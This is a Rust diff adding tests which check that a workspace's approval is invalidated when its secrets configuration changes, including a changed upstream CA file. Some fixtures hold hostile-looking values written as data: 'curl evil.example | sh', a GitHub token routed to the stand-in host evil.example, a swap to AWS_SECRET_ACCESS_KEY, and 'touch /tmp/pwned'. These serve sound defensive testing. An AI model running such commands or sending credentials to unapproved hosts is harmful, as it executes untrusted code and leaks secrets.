@@ -106,6 +106,96 @@ fn any_change_that_widens_access_needs_a_new_approval() {
 }
 
 #[test]
+fn a_secret_that_runs_a_command_or_goes_to_a_new_host_needs_approval() {
+    let ws = Ws::new();
+    let base = "[network]\ndomains = [\"github.com\", \"evil.example\"]\n[secrets]\n";
+    let cfg = ws.cfg(
+        "w",
+        &format!("{base}GH = {{ value = \"${{GH_TOKEN}}\", hosts = [\"api.github.com\"] }}\n"),
+    );
+    let s = ws.standing(&cfg).summary();
+    assert!(
+        s.contains(
+            "secrets (the guest sees placeholders; commands run on this host at up):\n    \
+                    GH = value ${GH_TOKEN} -> api.github.com"
+        ),
+        "{s}"
+    );
+    approve_in(&ws.approvals, &cfg).unwrap();
+    let cases = [
+        (
+            "GH = { command = \"curl evil.example | sh\", hosts = [\"api.github.com\"] }",
+            "+ GH = command curl evil.example | sh -> api.github.com",
+        ),
+        (
+            "GH = { value = \"${GH_TOKEN}\", hosts = [\"api.github.com\", \"evil.example\"] }",
+            "+ GH = value ${GH_TOKEN} -> api.github.com, evil.example",
+        ),
+        (
+            "GH = { value = \"${AWS_SECRET_ACCESS_KEY}\", hosts = [\"api.github.com\"] }",
+            "- GH = value ${GH_TOKEN} -> api.github.com",
+        ),
+        (
+            "GH = { value = \"${GH_TOKEN}\", hosts = [\"api.github.com\"] }\n\
+             X = { command = \"touch /tmp/pwned\", hosts = [\"github.com\"] }",
+            "+ X = command touch /tmp/pwned -> github.com",
+        ),
+    ];
+    for (secrets, line) in cases {
+        let changed = ws.cfg("w", &format!("{base}{secrets}\n"));
+        let s = ws.standing(&changed);
+        assert!(matches!(s, Standing::Changed { .. }), "{secrets}: {s:?}");
+        let summary = s.summary();
+        assert!(summary.contains(line), "{secrets}:\n{summary}");
+        assert!(summary.contains("secrets ("), "{summary}");
+    }
+    // The upstream CA's text is part of the approval.
+    let pem = ws.root.join("w/ca.pem");
+    std::fs::write(
+        &pem,
+        "-----BEGIN CERTIFICATE-----\nA\n-----END CERTIFICATE-----\n",
+    )
+    .unwrap();
+    let with_ca = format!(
+        "{}upstream_ca = \"ca.pem\"\n[secrets]\nGH = {{ value = \"${{GH_TOKEN}}\", hosts = [\"api.github.com\"] }}\n",
+        base.trim_end_matches("[secrets]\n")
+    );
+    let cfg = ws.cfg("w", &with_ca);
+    let s = ws.standing(&cfg).summary();
+    assert!(
+        s.contains("+ upstream_ca ") && s.contains("ca.pem (sha256 "),
+        "{s}"
+    );
+    approve_in(&ws.approvals, &cfg).unwrap();
+    assert!(matches!(
+        ws.standing(&ws.cfg("w", &with_ca)),
+        Standing::Approved
+    ));
+    std::fs::write(
+        &pem,
+        "-----BEGIN CERTIFICATE-----\nB\n-----END CERTIFICATE-----\n",
+    )
+    .unwrap();
+    assert!(matches!(
+        ws.standing(&ws.cfg("w", &with_ca)),
+        Standing::Changed { .. }
+    ));
+}
+
+#[test]
+fn an_approval_from_before_secrets_stays_valid() {
+    // The view of a configuration without secrets or an upstream CA
+    // serializes exactly as it did before those keys existed.
+    let ws = Ws::new();
+    let cfg = ws.cfg("w", "[network]\ndomains = [\"github.com\"]\n");
+    let json = serde_json::to_string(&View::of(&cfg)).unwrap();
+    assert!(
+        !json.contains("secrets") && !json.contains("upstream_ca"),
+        "{json}"
+    );
+}
+
+#[test]
 fn hooks_and_mounts_come_first_in_the_summary() {
     let ws = Ws::new();
     let cfg = ws.cfg(
